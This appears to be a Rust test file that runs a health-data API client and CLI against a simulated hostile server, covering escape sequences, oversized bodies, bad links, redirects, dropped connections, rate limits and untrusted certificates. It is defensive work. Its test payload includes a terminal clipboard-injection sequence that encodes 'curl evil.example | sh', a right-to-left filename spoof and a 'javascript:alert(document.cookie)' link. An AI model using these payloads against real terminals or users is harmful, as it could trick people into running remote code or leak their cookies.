//! The command line and the client against a hostile server (tests/common/hostile.rs): escape
//! sequences and HTML in error bodies, huge and endless bodies, links that are not links, pages
//! that never advance, redirects, dropped connections, rate limits, an untrusted certificate.

mod common;

use std::process::Command;
use std::time::{Duration, Instant};

use common::hostile::{Hostile, Reply, Request, user_json};
use common::*;
use vital_onboard::api::{ApiError, Client};
use vital_onboard::setup::connection::ApiKey;

fn cmd(base: &str) -> Command {
    let mut c = no_config_command();
    c.env("VITAL_BASE_URL", base).env("VITAL_API_KEY", KEY);
    c
}

/// No escape, control, bidi or zero-width character, and none of the text a stripped ESC would
/// leave behind.
fn assert_clean(what: &str, s: &str) {
    if let Some(c) = s
        .chars()
        .find(|c| *c != '\n' && vital_onboard::text::is_unsafe(*c))
    {
        panic!("{what} holds U+{:04X}: {s:?}", c as u32);
    }
    for leftover in ["[2J", "]0;", "]52;", "pwned"] {
        assert!(!s.contains(leftover), "{what} holds {leftover:?}: {s:?}");
    }
}

fn client(h: &Hostile) -> Client {
    Client::new(
        url::Url::parse(&h.url()).unwrap(),
        Some(ApiKey::new(KEY)),
        "the hostile server",
        Duration::from_secs(5),
    )
    .with_retry(fast_retry())
}

const EVIL: &str = "\u{1b}[2J\u{1b}]0;pwned\u{7}\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}\u{202e}gnp.exe\u{200b}";

#[tokio::test(flavor = "multi_thread")]
async fn escapes_in_error_bodies_never_reach_the_terminal() {
    let json_detail = serde_json::json!({ "detail": format!("bad {EVIL} thing") }).to_string();
    let html = format!("<html><title>{EVIL}</title>\n<body>Bad gateway</body></html>");
    let h = Hostile::start(move |r: &Request| {
        if r.path.starts_with("/v2/providers") {
            Reply::json(400, json_detail.clone())
        } else if r.path.starts_with("/v2/user/resolve") {
            Reply::Http {
                status: 404,
                headers: vec![("content-type".into(), "text/html".into())],
                body: html.clone().into_bytes(),
            }
        } else {
            Reply::json(
                422,
                serde_json::json!({"detail": [{"loc": ["body", EVIL], "msg": EVIL}]}).to_string(),
            )
        }
    })
    .await;
    let o = run(cmd(&h.url()), &["providers"]).await;
    assert_eq!(code(&o), 3);
    let err = text(&o.stderr);
    assert!(err.contains("bad") && err.contains("thing"), "{err}");
    assert_clean("stderr", &err);
    // An HTML 404 is not the API saying "no such user": it is described, never echoed.
    let o = run(cmd(&h.url()), &["link", "--user", "someone"]).await;
    assert_eq!(code(&o), 4);
    let err = text(&o.stderr);
    assert!(err.contains("an HTML page titled"), "{err}");
    assert!(
        !err.contains("Bad gateway") && !err.contains("<html"),
        "{err}"
    );
    assert_clean("stderr", &err);
    assert_eq!(err.lines().count(), 1, "one line: {err:?}");
    let o = run(cmd(&h.url()), &["users", "create", "p1"]).await;
    assert_eq!(code(&o), 3);
    assert_clean("stderr", &text(&o.stderr));
}

#[tokio::test(flavor = "multi_thread")]
async fn escapes_in_tables_and_json_never_reach_the_terminal() {
    let h = Hostile::start(|r: &Request| {
        if r.path.starts_with("/v2/providers") {
            Reply::json(200, serde_json::json!([{ "name": format!("Oura{EVIL}"), "slug": format!("oura{EVIL}"), "auth_type": EVIL }]).to_string())
        } else {
            let mut u = user_json(1);
            u["client_user_id"] = format!("p{EVIL}").into();
            Reply::json(200, serde_json::json!({"users": [u], "total": 1, "offset": 0, "limit": 500}).to_string())
        }
    })
    .await;
    for args in [
        &["providers"][..],
        &["providers", "--json"],
        &["users"],
        &["users", "--json"],
    ] {
        let o = run(cmd(&h.url()), args).await;
        assert_eq!(code(&o), 0, "{args:?}: {}", text(&o.stderr));
        assert_clean(&format!("{args:?} stdout"), &text(&o.stdout));
        if args.contains(&"--json") {
            for line in text(&o.stdout).lines() {
                let _: serde_json::Value = serde_json::from_str(line).expect("valid JSON");
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn huge_bodies_are_not_read_whole_and_not_echoed() {
    let big = serde_json::json!({ "detail": "A".repeat(10 * 1024 * 1024) }).to_string();
    let h = Hostile::start(move |r: &Request| {
        if r.path.starts_with("/v2/providers") {
            Reply::Endless
        } else {
            Reply::json(400, big.clone())
        }
    })
    .await;
    // It stops at its cap and says so, rather than reading until its 5 s timeout (a Timeout
    // error then): the kind of error is the proof, which a wall-clock bound on a loaded machine
    // is not.
    let e = client(&h).providers().await.unwrap_err();
    assert!(matches!(e, ApiError::Unexpected { .. }), "{e:?}");
    assert!(e.to_string().contains("larger than"), "{e}");
    tokio::time::sleep(Duration::from_millis(200)).await;
    let sent = h.endless_bytes.load(std::sync::atomic::Ordering::SeqCst);
    assert!(
        sent < 16 * 1024 * 1024,
        "the client stopped reading near its cap, not at {sent} bytes"
    );

    let o = run(cmd(&h.url()), &["users", "create", "p1"]).await;
    assert_eq!(code(&o), 3);
    let err = text(&o.stderr);
    assert!(
        err.len() < 1000,
        "a 10 MB detail is cut: {} bytes",
        err.len()
    );
    assert!(err.contains('…'), "the cut is marked: {err}");
}

fn link_server(link_web_url: String) -> impl Fn(&Request) -> Reply + Send + Sync + 'static {
    move |r: &Request| {
        if r.path.starts_with("/v2/user/resolve") {
            Reply::json(200, user_json(1).to_string())
        } else if r.path.starts_with("/v2/link/token") {
            Reply::json(
                200,
                serde_json::json!({"link_token": "tok", "link_web_url": link_web_url}).to_string(),
            )
        } else {
            Reply::json(404, r#"{"detail":"no"}"#)
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_link_that_is_not_an_https_url_is_refused_with_exit_4() {
    for bad in [
        "javascript:alert(document.cookie)".to_string(),
        format!("https://link.example/?token=a{EVIL}"),
        "http://evil.example/?token=a".to_string(),
    ] {
        let h = Hostile::start(link_server(bad.clone())).await;
        let dir = tempfile::tempdir().unwrap();
        let png = dir.path().join("code.png");
        let o = run(
            cmd(&h.url()),
            &[
                "link",
                "--user",
                "p1",
                "--qr",
                "--qr-png",
                png.to_str().unwrap(),
            ],
        )
        .await;
        assert_eq!(code(&o), 4, "{bad:?}: {}", text(&o.stderr));
        assert!(o.stdout.is_empty(), "nothing printed for {bad:?}");
        assert!(!png.exists(), "nothing saved for {bad:?}");
        let err = text(&o.stderr);
        assert!(err.contains("unexpected link"), "{err}");
        assert_clean("stderr", &err);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn link_qr_with_a_link_too_long_for_a_code_still_prints_the_url() {
    let url = format!("https://link.example/?token={}", "a".repeat(3000));
    let h = Hostile::start(link_server(url.clone())).await;
    let o = run(cmd(&h.url()), &["link", "--user", "p1", "--qr"]).await;
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    assert_eq!(text(&o.stdout).trim(), url, "the minted link is not lost");
    assert_eq!(
        text(&o.stderr).lines().next().unwrap(),
        "note: no QR code: the link (3028 characters) is too long for one; use the URL",
        "said once"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn pages_that_never_advance_stop_at_once() {
    let page: String = serde_json::json!({
        "users": (0..500).map(user_json).collect::<Vec<_>>(),
        "total": 1_000_000, "offset": 0, "limit": 500,
    })
    .to_string();
    let h = Hostile::start(move |_: &Request| Reply::json(200, page.clone())).await;
    let o = run(cmd(&h.url()), &["users"]).await;
    assert_eq!(code(&o), 4, "{}", text(&o.stderr));
    assert!(
        text(&o.stderr).contains("same 500 users"),
        "{}",
        text(&o.stderr)
    );
    assert_eq!(
        h.requests().len(),
        2,
        "the second page repeats the first: stop"
    );
    assert_eq!(
        text(&o.stdout).lines().count(),
        501,
        "header and the first page"
    );

    let h = Hostile::start(|_: &Request| {
        Reply::json(200, r#"{"users":[],"total":-5,"offset":0,"limit":500}"#)
    })
    .await;
    let o = run(cmd(&h.url()), &["users"]).await;
    assert_eq!(code(&o), 4);
    let err = text(&o.stderr);
    assert!(err.contains("total = -5, not a count"), "{err}");
    assert!(
        !err.contains("invalid value"),
        "not a parse error text: {err}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_redirect_is_reported_as_such_with_exit_4() {
    let h = Hostile::start(|_: &Request| {
        Reply::json(302, "").with_header("location", "https://elsewhere.example/\u{202e}moc.evil")
    })
    .await;
    let o = run(cmd(&h.url()), &["providers"]).await;
    assert_eq!(code(&o), 4, "{}", text(&o.stderr));
    let err = text(&o.stderr);
    assert!(err.contains("redirect (HTTP 302"), "{err}");
    assert!(err.contains("redirects are not followed") && err.contains("--base-url"));
    assert!(!err.contains("refused"), "{err}");
    assert_clean("stderr", &err);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_dropped_connection_is_not_called_unreachable() {
    let h = Hostile::start(|_: &Request| Reply::Drop).await;
    let e = client(&h).create_user("p1").await.unwrap_err();
    assert!(
        matches!(
            e,
            ApiError::Dropped {
                may_have_run: true,
                ..
            }
        ),
        "{e:?}"
    );
    assert_eq!(
        h.requests().len(),
        1,
        "a POST that may have run is not retried"
    );
    assert!(
        e.to_string().contains("dropped after the request was sent"),
        "{e}"
    );
    assert!(e.to_string().contains("not retried"), "{e}");
    assert!(!e.to_string().contains("could not reach"), "{e}");
    assert_eq!(e.exit_code(), 4);

    let h = Hostile::start(|_: &Request| Reply::Drop).await;
    let e = client(&h).providers().await.unwrap_err();
    assert!(matches!(e, ApiError::Dropped { attempts: 3, .. }), "{e:?}");
    assert_eq!(h.requests().len(), 3, "a GET is safe to try again");
}

#[tokio::test(flavor = "multi_thread")]
async fn waiting_out_retry_after_is_said_on_stderr_and_observable() {
    let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let h2 = hits.clone();
    let h = Hostile::start(move |_: &Request| {
        if h2.fetch_add(1, std::sync::atomic::Ordering::SeqCst) == 0 {
            Reply::json(429, r#"{"detail":"slow down"}"#).with_header("retry-after", "1")
        } else {
            Reply::json(200, "[]")
        }
    })
    .await;
    let o = run(cmd(&h.url()), &["providers"]).await;
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    let err = text(&o.stderr);
    assert!(err.contains("rate limited by"), "{err}");
    assert!(err.contains("retrying in 1 s (attempt 2 of 3)"), "{err}");

    hits.store(0, std::sync::atomic::Ordering::SeqCst);
    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let s2 = seen.clone();
    let c = client(&h).with_retry_notice(std::sync::Arc::new(move |n| {
        s2.lock().unwrap().push(n.clone());
    }));
    c.providers().await.unwrap();
    let seen = seen.lock().unwrap();
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].reason, vital_onboard::api::RetryReason::RateLimited);
    assert_eq!(seen[0].wait, Duration::from_secs(1));
}

#[tokio::test(flavor = "multi_thread")]
async fn connect_timeouts_are_retried_and_reported_with_the_real_total() {
    // A host that takes the TCP connection and never answers the TLS handshake: the connection
    // is never made, whatever the kernel does with a full accept queue (reqwest's connect
    // timeout covers the handshake, as for every https host).
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let held = tokio::spawn(async move {
        let mut open = Vec::new();
        while let Ok((stream, _)) = listener.accept().await {
            open.push(stream);
        }
    });
    let c = Client::new(
        url::Url::parse(&format!("https://{addr}")).unwrap(),
        Some(ApiKey::new(KEY)),
        "the silent host",
        Duration::from_secs(1),
    )
    .with_retry(fast_retry());
    let started = Instant::now();
    let e = c.providers().await.unwrap_err();
    let took = started.elapsed();
    assert!(
        matches!(e, ApiError::Unreachable { .. }),
        "retried as a connect failure, whatever --timeout: {e:?}"
    );
    let msg = e.to_string();
    assert!(msg.contains("timed out after 0.8 s"), "{msg}");
    assert!(msg.contains("3 attempts over"), "{msg}");
    assert!(!msg.contains("within 1s"), "{msg}");
    assert!(
        took >= Duration::from_millis(2400),
        "three attempts: {took:?}"
    );
    held.abort();
}

#[tokio::test(flavor = "multi_thread")]
async fn an_untrusted_certificate_is_refused_and_not_retried() {
    use std::sync::atomic::{AtomicUsize, Ordering};
    let _ = rustls::crypto::ring::default_provider().install_default();
    let cert = rustls::pki_types::CertificateDer::from(
        include_bytes!("fixtures/self-signed.cert.der").to_vec(),
    );
    let key = rustls::pki_types::PrivateKeyDer::Pkcs8(
        include_bytes!("fixtures/self-signed.key.der")
            .to_vec()
            .into(),
    );
    let config = std::sync::Arc::new(
        rustls::ServerConfig::builder()
            .with_no_client_auth()
            .with_single_cert(vec![cert], key)
            .unwrap(),
    );
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap();
    let connections = std::sync::Arc::new(AtomicUsize::new(0));
    let c2 = connections.clone();
    std::thread::spawn(move || {
        for sock in listener.incoming() {
            let Ok(mut sock) = sock else { return };
            c2.fetch_add(1, Ordering::SeqCst);
            let mut conn = rustls::ServerConnection::new(config.clone()).unwrap();
            while conn.is_handshaking() {
                if conn.complete_io(&mut sock).is_err() {
                    break;
                }
            }
        }
    });
    let base = format!("https://127.0.0.1:{}", addr.port());
    let o = run(cmd(&base), &["providers"]).await;
    assert_eq!(code(&o), 4, "{}", text(&o.stderr));
    let err = text(&o.stderr);
    assert!(
        err.contains("certificate") && err.contains("not trusted"),
        "{err}"
    );
    assert!(err.contains("not retried"), "{err}");
    assert_eq!(
        connections.load(Ordering::SeqCst),
        1,
        "tried once, not three times"
    );
}

/// A server that is not the Vital API: a web server's HTML 404 page for every path but
/// `/v2/providers`, which answers 200 with plain text, and `/v2/team` which fails with an HTML 503.
fn web_server(r: &Request) -> Reply {
    let html = |status: u16, title: &str| {
        Reply::Http {
        status,
        headers: vec![("content-type".into(), "text/html".into())],
        body: format!("<!DOCTYPE html>\n<html><head><title>{title}</title></head><body><h1>{title}</h1><p>nginx</p></body></html>").into_bytes(),
    }
    };
    if r.path.starts_with("/v2/providers") {
        Reply::Http {
            status: 200,
            headers: vec![("content-type".into(), "text/plain".into())],
            body: b"Hello from the clinic intranet".to_vec(),
        }
    } else if r.path.starts_with("/v2/team") {
        html(503, "503 Service Temporarily Unavailable")
    } else {
        html(404, "404 Not Found")
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_host_that_is_not_the_vital_api_says_so_and_names_the_setting() {
    let h = Hostile::start(web_server).await;
    let host = h.url();
    // From VITAL_BASE_URL: the message names the variable.
    let o = run(cmd(&host), &["link", "--user", "patient-00001"]).await;
    assert_eq!(code(&o), 4, "{}", text(&o.stderr));
    assert_eq!(
        text(&o.stderr),
        format!(
            "error: {host} does not answer like the Vital API (HTTP 404 with an HTML page titled \"404 Not Found\"): check VITAL_BASE_URL\n"
        )
    );
    assert!(o.stdout.is_empty());
    // From --base-url: the message names the flag.
    let mut c = cmd(&host);
    c.env_remove("VITAL_BASE_URL");
    let o = run(c, &["--base-url", &host, "users"]).await;
    assert_eq!(code(&o), 4, "{}", text(&o.stderr));
    assert_eq!(
        text(&o.stderr),
        format!(
            "error: {host} does not answer like the Vital API (HTTP 404 with an HTML page titled \"404 Not Found\"): check --base-url\n"
        )
    );
    // A 200 that is not JSON is the same, not a decode error.
    let o = run(cmd(&host), &["providers"]).await;
    assert_eq!(code(&o), 4);
    assert_eq!(
        text(&o.stderr),
        format!(
            "error: {host} does not answer like the Vital API (HTTP 200 with a body that is not JSON): check VITAL_BASE_URL\n"
        )
    );
    assert!(o.stdout.is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn vitals_status_page_is_named_only_for_vitals_hosts() {
    let h = Hostile::start(web_server).await;
    let mut c = cmd(&h.url());
    c.env("VITAL_TIMEOUT_SECS", "5");
    let o = run(c, &["users", "--search", "ab"]).await;
    assert_eq!(code(&o), 4, "{}", text(&o.stderr));
    let err = text(&o.stderr);
    let last = err.lines().last().unwrap();
    assert_eq!(
        last,
        format!(
            "error: {} answered HTTP 503 after 3 attempts: an HTML page titled \"503 Service Temporarily Unavailable\". Try again in a minute; if it persists, check the host VITAL_BASE_URL names",
            h.url()
        )
    );
    assert!(!err.contains("status.junction.com"), "{err}");
    // The client of a Vital host (only built here, never sent) advises the status page.
    let vital = Client::new(
        url::Url::parse("https://api.sandbox.eu.tryvital.io").unwrap(),
        None,
        "sandbox/eu",
        Duration::from_secs(1),
    );
    assert_eq!(vital.origin(), vital_onboard::api::HostOrigin::Vital);
    assert_eq!(client(&h).origin(), vital_onboard::api::HostOrigin::Other);
}
